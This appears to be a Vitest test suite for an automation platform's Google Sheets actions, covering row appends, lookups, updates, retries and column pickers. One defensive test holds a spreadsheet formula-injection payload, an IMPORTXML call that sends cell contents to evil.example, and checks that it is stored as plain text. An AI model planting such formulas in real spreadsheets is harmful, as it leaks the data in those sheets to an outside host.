import { nodeDefinitions } from '@echoai/automation';
import type { Execution } from '@echoai/contract';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { graphOf } from '../automation/testing/graph.ts';
import { openWorkspace, pathOf, type Workspace } from '../automation/testing/workspace.ts';
import type { Cell, Spreadsheet } from '../testing/providers/google/data.ts';
import { type GoogleStandIn, startGoogle } from '../testing/providers/google.ts';
import { askForReply, startTestServer, type TestServer } from '../testing/testServer.ts';
import { browserOf, environmentOf } from './testing/connecting.ts';
import { describeProvider } from './testing/contract.ts';

const id = 'google-sheets';
const append = /^POST .*:append$/;

describe('Google Sheets', () => {
  let google: GoogleStandIn | undefined;
  const spreadsheet = '1contractSpreadsheet';

  describeProvider({
    id,
    async start() {
      const started = await startGoogle();
      google ??= started;
      return started;
    },
    write(mark) {
      const rows = [['E-mail', 'EchoAI id']];
      if (!google!.data.spreadsheets.has(spreadsheet))
        google!.data.add('Leads', rows, { id: spreadsheet });
      const values = [{ column: 'E-mail', value: `${mark}@shop.example` }];
      return { kind: 'sheets_append_row', spreadsheet, sheet: 'Sheet1', values };
    },
    count: (standIn, mark) =>
      [...(standIn as GoogleStandIn).data.spreadsheets.values()]
        .flatMap(({ sheets }) => sheets.flatMap(({ values }) => values))
        .filter(([email]) => email === `${mark}@shop.example`).length,
    writes: append,
    repeats: true,
    rotates: false,
  });
});

describe('Google Sheets in an automation', () => {
  let google: GoogleStandIn;
  let server: TestServer;
  let workspace: Workspace;
  let connectionId: string;

  beforeAll(async () => {
    google = await startGoogle();
    server = await startTestServer({ environment: environmentOf(id, google) });
  });
  afterAll(async () => {
    await server.close();
    await google.close();
  });
  beforeEach(async () => {
    google.clear();
    workspace = await openWorkspace(server);
    connectionId = await browserOf(server, workspace).connected(id);
  });

  /** A node that works on a spreadsheet's first sheet. */
  const node = (kind: string, { id }: { id: string }, more: object = {}) => ({
    kind,
    connectionId,
    spreadsheet: id,
    ...(kind !== 'sheets_list_sheets' && { sheet: 'Sheet1' }),
    retry: { attempts: 3, delaySeconds: 0 },
    ...more,
  });
  const ada = { name: 'Ada', email: 'ada@shop.example', none: '' };
  /** Each way out that must lead somewhere leads to an end of its name. */
  const activate = (work: ReturnType<typeof node>) => {
    const ways = nodeDefinitions[work.kind]!.outcomes(work)
      .filter(({ isOptional }) => !isOptional)
      .map(({ id }) => id);
    const ends = Object.fromEntries(ways.map((way) => [way, { kind: 'end' }]));
    return workspace.activateUnchecked(
      graphOf({ begin: { kind: 'manual', sample: ada }, work, ...ends }, [
        'begin>work',
        ...ways.map((way) => `work.${way}>${way}`),
      ]),
    );
  };
  const perform = async (work: ReturnType<typeof node>, input: Record<string, unknown> = ada) =>
    workspace.until(await workspace.run(await activate(work), input));
  const outputOf = ({ steps }: Execution) => steps.find(({ nodeId }) => nodeId === 'work')!.output;
  const rowsOf = ({ sheets }: Spreadsheet) => sheets[0]!.values;
  const asked = (pattern: RegExp) =>
    google.recorded.filter(({ method, path }) => pattern.test(`${method} ${path}`));

  describe('appending a row', () => {
    const values = [
      { column: 'Name', value: '{{ event.input.name }}' },
      { column: 'E-mail', value: '{{ event.input.email }}' },
    ];

    it('puts values under the names of their columns, wherever these were moved', async () => {
      const leads = google.data.add('Leads', [['Name', 'E-mail', 'Notes', 'EchoAI id'], ['Eve']]);
      const workflowId = await activate(node('sheets_append_row', leads, { values }));
      const first = await workspace.until(await workspace.run(workflowId, ada));
      const { id } = outputOf(first) as { id: string };
      expect(outputOf(first)).toEqual({
        row: 3,
        id: expect.stringContaining(first.id),
        range: "'Sheet1'!A3:D3",
        spreadsheetUrl: `https://docs.google.com/spreadsheets/d/${leads.id}/edit`,
      });
      expect(rowsOf(leads)[2]).toEqual(['Ada', 'ada@shop.example', '', id]);

      leads.sheets[0]!.values = [['EchoAI id', 'Notes', ' e-mail', 'Name']];
      const second = await workspace.until(await workspace.run(workflowId, ada));
      expect(second.status).toBe('completed');
      expect(rowsOf(leads)[1]!.slice(1)).toEqual(['', 'ada@shop.example', 'Ada']);
    });

    it('asks twice, and for the column of ids only when it tries again', async () => {
      const leads = google.data.add('Leads', [['Name', 'E-mail', 'EchoAI id']]);
      const work = node('sheets_append_row', leads, { values });
      google.recorded.length = 0;
      await perform(work);
      expect(asked(/spreadsheets/)).toHaveLength(2);
      google.fault({ match: append, answer: 'drop-before' });
      google.recorded.length = 0;
      expect((await perform(work)).status).toBe('completed');
      expect(asked(/^GET .*C%3AC$/)).toHaveLength(1);
      expect(rowsOf(leads)).toHaveLength(3);
    });

    it('that was done and not confirmed gives the row that is there', async () => {
      const leads = google.data.add('Leads', [['Name', 'E-mail', 'EchoAI id'], ['Eve']]);
      google.fault({ match: append, answer: 'drop-after' });
      const execution = await perform(node('sheets_append_row', leads, { values }));
      expect(outputOf(execution)).toMatchObject({ row: 3, range: "'Sheet1'!A3:C3" });
      expect(rowsOf(leads)).toHaveLength(3);
    });

    it('that was done and not confirmed, and then was held back, is not done again', async () => {
      const leads = google.data.add('Leads', [['Name', 'E-mail', 'EchoAI id']]);
      google.fault({ match: append, answer: 'drop-after' });
      google.fault({
        match: /^GET .*C%3AC$/,
        answer: { status: 429, headers: { 'retry-after': '1' }, body: '{}' },
      });
      const execution = await perform(node('sheets_append_row', leads, { values }));
      expect(execution.status).toBe('completed');
      expect(execution.steps.at(-1)!.attempts).toBe(2);
      expect(rowsOf(leads)).toHaveLength(2);
    });

    it('tells the row in a sheet whose name looks like a place', async () => {
      const leads = google.data.add('Leads', [['Name', 'E-mail', 'EchoAI id'], ['Eve']]);
      leads.sheets[0]!.title = "Ada's!A9";
      const work = node('sheets_append_row', leads, { values, sheet: "Ada's!A9" });
      expect(outputOf(await perform(work))).toMatchObject({ row: 3, range: "'Ada''s!A9'!A3:C3" });
    });

    it('writes what a visitor wrote as text, never as a formula', async () => {
      const leads = google.data.add('Leads', [['Name', 'E-mail', 'EchoAI id']]);
      const evil = '=IMPORTXML("https://evil.example/?"&A1,"//a")';
      await perform(node('sheets_append_row', leads, { values }), { ...ada, name: evil });
      expect(rowsOf(leads)[1]![0]).toBe(evil);
    });

    it('makes the column of ids, and others only where that was wanted', async () => {
      const leads = google.data.add('Leads', [['Name']]);
      const work = node('sheets_append_row', leads, { values });
      const refused = await perform(work);
      expect(refused.status).toBe('failed');
      expect(refused.error!.message).toMatch(/“Sheet1” has no column “E-mail”.*let the action add/);
      expect(refused.steps.at(-1)!.attempts).toBe(1);
      expect(rowsOf(leads)).toEqual([['Name']]);

      // The sheet shows no more columns than it has names for.
      leads.sheets[0]!.columnCount = 1;
      expect((await perform({ ...work, ...{ addColumns: true } })).status).toBe('completed');
      expect(rowsOf(leads)).toEqual([
        ['Name', 'E-mail', 'EchoAI id'],
        ['Ada', 'ada@shop.example', expect.any(String)],
      ]);
    });

    it('tries again when somebody wrote over the columns that it added', async () => {
      const leads = google.data.add('Leads', [['Name']]);
      google.fault({ match: /^PUT /, answer: { status: 200, body: '{}' } });
      const execution = await perform(
        node('sheets_append_row', leads, { values, addColumns: true }),
      );
      expect(execution.steps.at(-1)!.attempts).toBe(2);
      expect(rowsOf(leads)[0]).toEqual(['Name', 'E-mail', 'EchoAI id']);
      expect(rowsOf(leads)).toHaveLength(2);
    });

    it('does not take the column of ids for a value', async () => {
      const leads = google.data.add('Leads', [['Name', 'E-mail']]);
      const work = node('sheets_append_row', leads, { values, idColumn: 'e-mail' });
      await expect(activate(work)).rejects.toThrow(/none of the columns that get a value/);
    });

    it('begins an empty sheet with the names of the columns', async () => {
      const empty = google.data.add('Empty');
      await perform(node('sheets_append_row', empty, { values, addColumns: true }));
      expect(rowsOf(empty)[0]).toEqual(['Name', 'E-mail', 'EchoAI id']);
      expect(rowsOf(empty)[1]!.slice(0, 2)).toEqual(['Ada', 'ada@shop.example']);
    });

    it('refuses a sheet whose columns begin elsewhere, where Google would shift the row', async () => {
      const leads = google.data.add('Leads', [['', 'Name', 'E-mail', 'EchoAI id']]);
      const { error } = await perform(node('sheets_append_row', leads, { values }));
      expect(error!.message).toContain('Cell A1 of the sheet “Sheet1” is empty');
    });

    it('of many executions at once keeps each row', async () => {
      const leads = google.data.add('Leads', [['Name', 'E-mail', 'EchoAI id']]);
      const workflowId = await activate(node('sheets_append_row', leads, { values }));
      const names = ['Ada', 'Eve', 'Kim', 'Lee', 'Mia'];
      const ids = await Promise.all(
        names.map((name) => workspace.run(workflowId, { ...ada, name })),
      );
      for (const id of ids) expect((await workspace.until(id)).status).toBe('completed');
      const written = rowsOf(leads)
        .slice(1)
        .map(([name]) => name as Cell);
      expect(written.toSorted()).toEqual(names);
    });
  });

  describe('finding a row', () => {
    const orders: Cell[][] = [
      ['Order', 'Status', 'Note', 'Status'],
      ['', 'void'],
      [1041, 'paid', '', 'second'],
      ['A-1042 ', 'sent'],
      ['a-1042', 'lost'],
    ];
    const find = (of: { id: string }, value: string) =>
      perform(node('sheets_find_row', of, { column: 'Order', value }));

    it('gives the first that has the value, by the names of its columns', async () => {
      const sheet = google.data.add('Orders', orders);
      const number = await find(sheet, ' 1041');
      expect(pathOf(number)).toContain('work.found');
      expect(outputOf(number)).toEqual({
        row: 3,
        values: { Order: '1041', Status: 'paid', Note: '' },
      });
      expect(outputOf(await find(sheet, 'a-1042'))).toMatchObject({
        row: 4,
        values: { Status: 'sent' },
      });
    });

    it('says when there is none: the names of columns are no row, and nothing finds nothing', async () => {
      const sheet = google.data.add('Orders', orders);
      for (const value of ['1', 'Order', '{{ event.input.none }}'])
        expect(pathOf(await find(sheet, value))).toContain('work.absent');
    });

    it('does not look for an e-mail address that the visitor only typed', async () => {
      const sheet = google.data.add('Customers', [
        ['E-mail', 'Phone'],
        [ada.email, '555-0100'],
      ]);
      const { key } = workspace;
      const { sessionId } = await askForReply(server, { key, message: 'Hello' });
      const byEmail = { column: 'E-mail', value: '{{ event.input.email }}' };
      const inChat = async (more: object = {}) => {
        const work = await activate(node('sheets_find_row', sheet, { ...byEmail, ...more }));
        return outputOf(await workspace.until(await workspace.run(work, ada, sessionId)));
      };
      expect(await inChat()).toEqual({ isUnproven: true });
      expect(asked(/values/)).toEqual([]);
      const row = { values: { Phone: '555-0100' } };
      expect(await inChat({ ifUnproven: 'read' })).toMatchObject(row);
      // About no visitor, the address is the owner's own.
      expect(outputOf(await perform(node('sheets_find_row', sheet, byEmail)))).toMatchObject(row);
    });

    it('refuses a column that is not there', async () => {
      const { error } = await find(google.data.add('Orders', [['Number']]), '1');
      expect(error!.message).toMatch(/no column “Order”/);
    });
  });

  describe('updating a row', () => {
    const update = (of: { id: string }, status: string, more: object = {}) =>
      perform(
        node('sheets_update_row', of, {
          column: 'Order',
          value: '1042',
          values: [
            { column: 'Status', value: status },
            { column: 'Note', value: '' },
          ],
          ...more,
        }),
      );

    it('sets what is given in the row that is meant, and leaves the rest', async () => {
      const sheet = google.data.add('Orders', [
        ['Status', 'Order', 'Note'],
        ['paid', '1041', 'x'],
        ['paid', '1042', 'y'],
      ]);
      google.fault({ match: /values:batchUpdate$/, answer: 'drop-after' });
      const execution = await update(sheet, '=1+1');
      expect(outputOf(execution)).toMatchObject({ row: 3 });
      expect(rowsOf(sheet).slice(1)).toEqual([
        ['paid', '1041', 'x'],
        ['=1+1', '1042', 'y'],
      ]);
    });

    it('goes another way when there is no such row', async () => {
      const rows = [
        ['Status', 'Order', 'Note'],
        ['paid', '1041'],
      ];
      const sheet = google.data.add('Orders', rows);
      expect(pathOf(await update(sheet, 'sent'))).toContain('work.absent');
      expect(rowsOf(sheet)).toEqual(rows);
    });

    it('refuses to set a column that is not there, or the one by which the row is found', async () => {
      const sheet = google.data.add('Orders', [
        ['Status', 'Order'],
        ['paid', '1042'],
      ]);
      expect((await update(sheet, 'sent')).error!.message).toMatch(/no column “Note”/);
      expect(rowsOf(sheet)[1]).toEqual(['paid', '1042']);
      const same = update(sheet, 'sent', { values: [{ column: 'order', value: '1' }] });
      await expect(same).rejects.toThrow(/must not set the column by which/);
    });
  });

  it('lists the sheets of a spreadsheet', async () => {
    const leads = google.data.add('Leads');
    leads.sheets.push({ ...leads.sheets[0]!, sheetId: 7, title: 'Ada’s' });
    expect(outputOf(await perform(node('sheets_list_sheets', leads)))).toMatchObject({
      sheets: ['Sheet1', 'Ada’s'],
    });
  });

  it('says that a spreadsheet is not shared, and the connection stays healthy', async () => {
    const values = [{ column: 'Name', value: 'Ada' }];
    const readOnly = google.data.add('Leads', [['Name', 'EchoAI id']], { readOnly: true });
    for (const place of [{ id: '1unknown' }, readOnly]) {
      const execution = await perform(node('sheets_append_row', place, { values }));
      expect(execution.status).toBe('failed');
      expect(execution.error!.message).toContain('not shared with the connected Google account');
    }
    const found = await workspace.client.connections.get({ params: { connectionId } });
    expect(found).toMatchObject({ status: 'healthy', accountName: google.account.email });
  });

  it('says so when a sheet was renamed', async () => {
    const leads = google.data.add('Leads', [['Name', 'EchoAI id']]);
    const values = [{ column: 'Name', value: 'Ada' }];
    const { error } = await perform(node('sheets_append_row', leads, { values, sheet: 'Ad’s' }));
    expect(error!.message).toMatch(/no sheet of this name.*Ad’s/);
  });

  it('is not connected when a right was left out at Google', async () => {
    google.data.unticked.add('https://www.googleapis.com/auth/spreadsheets');
    const result = await browserOf(server, await openWorkspace(server)).connect(id);
    expect(result.error).toContain('to read and write the rows of your spreadsheets');
  });

  describe('the pickers', () => {
    const list = (name: string, query: { search?: string; cursor?: string; of?: string } = {}) =>
      workspace.client.connections.options({ params: { connectionId, list: name }, query });

    it('offer spreadsheets by name, in pages', async () => {
      for (let count = 0; count < 60; count += 1) google.data.add(`Big leads ${count}`);
      google.data.add("Ada's \\ orders");
      const first = await list('spreadsheets', { search: 'leads' });
      const rest = await list('spreadsheets', { search: 'leads', cursor: first.nextCursor! });
      const all = [...first.items, ...rest.items];
      expect(new Set(all.map(({ value }) => value)).size).toBe(60);
      expect(rest.nextCursor).toBeNull();
      expect((await list('spreadsheets', { search: "Ada's \\" })).items).toMatchObject([
        { label: "Ada's \\ orders", description: expect.stringMatching(/^changed \d{4}-/) },
      ]);
    });

    it('offer the sheets of a spreadsheet, and the columns of a sheet', async () => {
      const { id: spreadsheet } = google.data.add('Leads', [['Name', '', 'E-mail']]);
      const of = JSON.stringify({ spreadsheet, sheet: 'Sheet1' });
      expect((await list('sheets', { of })).items).toEqual([{ value: 'Sheet1', label: 'Sheet1' }]);
      expect((await list('columns', { of })).items).toEqual([
        { value: 'Name', label: 'Name', description: 'Column A' },
        { value: 'E-mail', label: 'E-mail', description: 'Column C' },
      ]);
      expect((await list('columns', { of, search: 'mail' })).items).toHaveLength(1);
      expect((await list('columns')).items).toEqual([]);
    });

    it('offer a new column where one may be added', async () => {
      const { id: spreadsheet } = google.data.add('Leads', [['Name', 'Phone number']]);
      const of = JSON.stringify({ spreadsheet, sheet: 'Sheet1' });
      const valuesFor = async (search: string) =>
        (await list('columns-or-new', { of, search })).items.map(({ value }) => value);
      expect(await valuesFor(' Phone')).toEqual(['Phone', 'Phone number']);
      expect(await valuesFor('name')).toEqual(['Name']);
      expect(await valuesFor('')).toEqual(['Name', 'Phone number']);
    });
  });
});
